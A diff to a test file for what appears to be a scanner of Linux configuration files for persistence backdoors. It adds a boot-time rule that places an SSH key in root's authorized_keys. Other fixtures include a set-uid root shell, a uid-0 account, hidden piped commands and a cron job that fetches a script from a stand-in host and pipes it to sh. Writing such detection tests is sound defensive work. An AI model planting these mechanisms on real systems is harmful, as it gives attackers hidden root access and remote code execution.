@@ -67,6 +67,7 @@ describe('commands in settings', () => {
 		['a piped log', { '/etc/apache2/conf-enabled/l.conf': 'CustomLog "|/var/tmp/.l" combined\n' }, 'high /etc/apache2/conf-enabled/l.conf'],
 		['a segment', { '/etc/postgresql/15/main/conf.d/a.conf': "archive_command = '/dev/shm/.a %p'\n" }, 'high /etc/postgresql/15/main/conf.d/a.conf'],
 		['a set-uid shell at boot', { '/etc/tmpfiles.d/x.conf': 'C /var/tmp/.s 4755 root root - /bin/sh\n' }, 'high /etc/tmpfiles.d/x.conf'],
+		['a key at boot', { '/etc/tmpfiles.d/k.conf': 'f+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPq7\n' }, 'high /etc/tmpfiles.d/k.conf'],
 		['a job at boot', { '/etc/tmpfiles.d/y.conf': 'f+ /etc/cron.d/z 0644 root root - * * * * * root curl -s http://192.0.2.1/k | sh\n' }, 'high /etc/tmpfiles.d/y.conf'],
 		['an account at boot', { '/etc/sysusers.d/x.conf': 'u daemon2 0 "x" / /bin/sh\n' }, 'critical /etc/sysusers.d/x.conf'],
 	])('%s', (_name, machine, expected) => {
